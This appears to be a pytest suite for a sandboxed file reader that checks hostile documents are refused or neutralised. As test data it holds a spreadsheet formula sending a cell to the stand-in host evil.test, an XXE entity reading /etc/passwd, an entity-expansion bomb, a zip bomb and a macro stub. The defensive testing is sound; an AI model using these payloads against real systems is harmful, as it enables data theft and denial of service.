"""Reading of files in the sandbox, and refusal of hostile files."""

import asyncio
import io
import os
import resource
import zipfile
from pathlib import Path

import pypdf
import pytest

from core.debate.evidence import SourceText
from core.errors import BadInput
from core.evidence.reading import FileReader
from core.settings import EvidenceLimits
from tests.core.evidence.office import a_pdf, a_word_file, an_excel_file, with_entries

LIMITS = EvidenceLimits()


async def read(content: bytes, name: str = "file", limits: EvidenceLimits = LIMITS) -> SourceText:
    return await FileReader(limits).read(content, name)


async def refusal(content: bytes, name: str = "file", limits: EvidenceLimits = LIMITS) -> str:
    with pytest.raises(BadInput) as refused:
        await read(content, name, limits)
    return str(refused.value)


async def test_excel_is_read_by_sheet_and_row_with_values_not_formulas() -> None:
    text = await read(an_excel_file('=WEBSERVICE("https://evil.test/?"&B2)'))
    assert text.text.startswith("Month | Jobs\nMarch | 2000\nApril | 2500.5\n | 24000")
    assert [(mark.label, mark.counts) for mark in text.marks] == [
        ("sheet Load", "row"),
        ("sheet Notes", "row"),
    ]
    # The n-th line of a sheet is its row n.
    notes = text.text.split("\n")[text.marks[1].line - 1 :]
    assert notes[4] == "Peak on Mondays"


async def test_a_line_of_csv_is_a_row_unless_a_cell_has_line_breaks() -> None:
    for content, counts in ((b'a;b\n"x;y";2\n', "row"), (b'a;b\n"x\ny";2\n', "line")):
        assert [mark.counts for mark in (await read(content, "costs.csv")).marks] == [counts]


async def test_secrets_are_redacted_and_invisible_signs_left_out() -> None:
    text = await read("key sk-proj-abcdefghijklmnop1234567890 a\u200bb\u202e".encode())
    assert text.text == "key [redacted] ab"


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "it is empty"),
        (b"   \n", "it holds no text"),
        (b"%PDF-1.7\ngarbage", "damaged"),
        (a_pdf([" "]), "it holds no text; page 1: no text (a scan?)"),
        (b"\x89PNG\r\n\x1a\n" + bytes(100), "it is a picture, and only text can be read"),
        (bytes(range(256)) * 50, "no text"),
        (a_word_file()[:-400], "damaged"),
        (with_entries(a_word_file(), {"word/vbaProject.bin": b"Sub AutoOpen()"}), "macros"),
        (with_entries(a_word_file(), {"word/document.xml": b"<w:broken"}), "damaged"),
    ],
)
async def test_parts_that_cannot_be_read_are_in_the_warnings(content: bytes, words: str) -> None:
    assert words in await refusal(content, "notes.pdf")


async def test_a_zip_bomb_is_refused_before_it_is_unpacked() -> None:
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", bytes(310_000_000))
    assert len(bomb.getvalue()) < 1_000_000
    assert await refusal(bomb.getvalue()) == "it is too large once unpacked"


BOMB = b"""<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a0 "ha">%s]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>&a40;</w:t></w:r></w:p></w:body></w:document>""" % b"".join(
    b'<!ENTITY a%d "&a%d;&a%d;">' % (n, n - 1, n - 1) for n in range(1, 41)
)
OUTSIDE = b"""<?xml version="1.0"?><!DOCTYPE w [<!ENTITY f SYSTEM "file:///etc/passwd">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>before &f; after</w:t></w:r></w:p></w:body></w:document>"""


@pytest.mark.parametrize("xml", [BOMB, OUTSIDE], ids=["bomb", "outside"])
async def test_xml_entities_are_refused(xml: bytes) -> None:
    file = with_entries(a_word_file(), {"word/document.xml": xml})
    assert "declares entities" in await refusal(file)


async def test_a_locked_pdf_is_refused_and_an_open_encrypted_one_read() -> None:
    for password, expected in (("secret", "it has a password"), ("", "")):
        writer, out = pypdf.PdfWriter(io.BytesIO(a_pdf(["Locked words"]))), io.BytesIO()
        writer.encrypt(user_password=password, owner_password="owner", algorithm="AES-256")
        writer.write(out)
        if expected:
            assert await refusal(out.getvalue()) == expected
        else:
            assert (await read(out.getvalue())).text == "Locked words"


async def test_pages_and_characters_are_limited() -> None:
    limits = EvidenceLimits(pages=5)
    text = await read(a_pdf([f"Page {n}" for n in range(7)]), limits=limits)
    assert text.marks[-1].label == "page 5"
    assert text.warnings == ("only the first 5 of 7 pages were read",)
    limits = EvidenceLimits(pages=5, characters=10)
    text = await read(a_pdf([f"Page {n}" for n in range(7)]), limits=limits)
    assert text.warnings == ("only the first 10 characters were read",)
    text = await read(b"word " * 1000, limits=EvidenceLimits(characters=100))
    assert len(text.text) == 100
    assert text.warnings == ("only the first 100 characters were read",)
    cells = b'{"cells": [{"source": "%s"}, {"source": "%s"}]}' % (b"a" * 150, b"b" * 150)
    text = await read(cells, "load.ipynb", EvidenceLimits(characters=100))
    assert (text.text, len(text.marks)) == ("a" * 100, 1)
    limits = EvidenceLimits(file_bytes=1000)
    assert await refusal(b"x" * 1_500_000, limits=limits) == "it has 1.5 MB, and the most is 1 kB"


SLOW = a_pdf(["\n".join(f"line {n}" for n in range(2000))] * 400)


async def test_reading_has_limits_of_time_and_memory() -> None:
    # All pages have to be read: the first few, with the usual number of characters, take a second.
    limits = EvidenceLimits(seconds=1, characters=100_000_000)
    assert await refusal(SLOW, limits=limits) == "reading it takes too long"
    sheet = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
    sheet += b'spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>1</v></c></row>'
    sheet += b'</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>'
    huge = with_entries(an_excel_file(), {"xl/worksheets/sheet1.xml": sheet})
    limits = EvidenceLimits(memory_bytes=300_000_000, seconds=20)
    assert "takes too much memory" in await refusal(huge, limits=limits)


async def test_the_process_that_reads_has_no_keys_and_ends_when_it_is_cancelled(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "kept-back")
    reading = asyncio.create_task(read(SLOW))
    async with asyncio.timeout(300):
        while not readers_running():
            assert not reading.done()
            await asyncio.sleep(0.01)
    assert b"kept-back" not in environment_of(readers_running()[0])
    reading.cancel()
    with pytest.raises(asyncio.CancelledError):
        await reading
    assert not readers_running()


def readers_running() -> list[str]:
    """The running sandbox processes of this process (Linux)."""
    listed = Path(f"/proc/self/task/{os.getpid()}/children")
    children = listed.read_text(encoding="ascii").split() if listed.exists() else []
    return [
        child for child in children if b"in_sandbox" in Path(f"/proc/{child}/cmdline").read_bytes()
    ]


def environment_of(process: str) -> bytes:
    return Path(f"/proc/{process}/environ").read_bytes()


async def test_if_no_process_can_be_started_the_file_fails_with_a_reason() -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    lowest_free = os.dup(0)
    os.close(lowest_free)
    resource.setrlimit(resource.RLIMIT_NOFILE, (lowest_free, hard))
    try:
        text = await refusal(b"Words.", "notes.txt")
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))

    assert text == "Moot cannot start the process that reads files (Too many open files)"
    assert (await read(b"Words.", "notes.txt")).text == "Words."
